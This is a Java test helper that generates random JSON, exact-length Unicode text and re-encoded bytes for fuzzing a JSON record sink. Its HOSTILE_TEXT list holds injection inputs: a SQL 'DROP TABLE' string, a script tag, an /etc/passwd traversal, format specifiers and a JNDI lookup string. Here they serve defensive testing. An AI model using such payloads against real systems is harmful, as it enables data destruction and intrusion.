package dev.userstream.sink.reliability;

import java.nio.ByteBuffer;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.SplittableRandom;

/**
 * Arbitrary JSON and bytes for the fuzz test, from the seeded random: any JSON value (not only
 * objects), text of an exact UTF-16 length, and a record's bytes in the encodings a JSON parser
 * may detect (a BOM, UTF-16, UTF-32).
 */
final class FuzzJson {

	/** Printable text that has broken SQL, HTML, shells, paths, format strings or bidi rendering elsewhere. */
	static final String[] HOSTILE_TEXT = { "Robert'); DROP TABLE users;--", "\"quoted\" \\ back\\slash", "<script>alert(1)</script>",
			"../../etc/passwd", "%s%n%x%d", "${jndi:ldap://example.invalid/x}", "  leading and trailing  ", "null", "NULL",
			"zero\u200Bwidth", "RTL \u202Eoverride", "BOM\uFEFFinside", "line\u2028separator", "O'Brien", "a\\u0000b",
			"日本語のテキスト", "ﷺ", "\uFFFD replacement", "tab\\t escaped" };

	private static final String[] ALPHABET = { "a", "Z", "é", "ß", "Ж", "中", "ا", " ", "-", "'", "😀", "𠜎" };

	private final SplittableRandom random;

	FuzzJson(SplittableRandom random) {
		this.random = random;
	}

	/** Printable, not blank, exactly {@code units} UTF-16 code units long (supplementary characters count two). */
	String text(int units) {
		StringBuilder text = new StringBuilder("N");
		while (text.length() < units) {
			String next = ALPHABET[this.random.nextInt(ALPHABET.length)];
			text.append((text.length() + next.length() <= units) ? next : "x");
		}
		return text.toString();
	}

	/** Any JSON value: mostly objects (some with the record's field names), also arrays and scalars. */
	String randomValue() {
		return value(0, true);
	}

	private String value(int depth, boolean top) {
		int choice = (top && this.random.nextInt(4) > 0) ? 0 : this.random.nextInt((depth > 4) ? 7 : 9);
		return switch (choice) {
			case 0 -> object(depth);
			case 1 -> "null";
			case 2 -> this.random.nextBoolean() ? "true" : "false";
			case 3 -> Long.toString(this.random.nextLong());
			case 4 -> Double.toString(this.random.nextDouble() * Math.pow(10, this.random.nextInt(-300, 300)));
			case 5, 6 -> string();
			default -> array(depth);
		};
	}

	private String object(int depth) {
		String[] names = { "user_id", "name", "email", "dob", "date", "age", "username", "password", "schema_version",
				"produced_at", "source", "", "a", "\\u0000" };
		StringBuilder object = new StringBuilder("{");
		int fields = this.random.nextInt(8);
		for (int i = 0; i < fields; i++) {
			object.append((i > 0) ? "," : "").append('"').append(names[this.random.nextInt(names.length)]).append("\":")
				.append(value(depth + 1, false));
		}
		return object.append('}').toString();
	}

	private String array(int depth) {
		StringBuilder array = new StringBuilder("[");
		int items = this.random.nextInt(5);
		for (int i = 0; i < items; i++) {
			array.append((i > 0) ? "," : "").append(value(depth + 1, false));
		}
		return array.append(']').toString();
	}

	private String string() {
		StringBuilder text = new StringBuilder("\"");
		int length = this.random.nextInt(40);
		for (int i = 0; i < length; i++) {
			int c = this.random.nextInt(0x20, 0x800);
			text.append((c == '"' || c == '\\') ? "\\u00" + Integer.toHexString(c) : String.valueOf((char) c));
		}
		return text.append('"').toString();
	}

	/** 1 to 3,000 random bytes. */
	byte[] randomBytes() {
		byte[] bytes = new byte[1 + this.random.nextInt(3_000)];
		this.random.nextBytes(bytes);
		return bytes;
	}

	/** UTF-8 JSON re-encoded: 0 with a UTF-8 BOM, 1 UTF-16BE with BOM, 2 UTF-16LE, 3 UTF-32BE, 4 a BOM twice. */
	static byte[] encodings(byte[] utf8, int variant) {
		String json = new String(utf8, StandardCharsets.UTF_8);
		byte[] bom = { (byte) 0xEF, (byte) 0xBB, (byte) 0xBF };
		return switch (variant) {
			case 0 -> concat(bom, utf8);
			case 1 -> json.getBytes(StandardCharsets.UTF_16); // big-endian with a BOM
			case 2 -> json.getBytes(StandardCharsets.UTF_16LE);
			case 3 -> json.getBytes(Charset.forName("UTF-32BE"));
			default -> concat(concat(bom, bom), utf8);
		};
	}

	private static byte[] concat(byte[] a, byte[] b) {
		return ByteBuffer.allocate(a.length + b.length).put(a).put(b).array();
	}

}
